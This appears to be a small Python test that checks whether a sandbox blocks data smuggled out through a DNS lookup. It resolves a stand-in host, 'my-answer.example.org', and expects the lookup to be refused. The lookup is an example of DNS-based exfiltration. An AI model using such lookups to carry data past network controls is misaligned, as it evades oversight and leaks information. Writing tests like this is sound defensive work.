"""Smuggles an answer out in the name of a host that it looks up.

says: refused
"""

import socket

try:
    socket.getaddrinfo("my-answer.example.org", 80)
    print("BREACH: looked up")
except OSError as error:
    print("refused:", error)
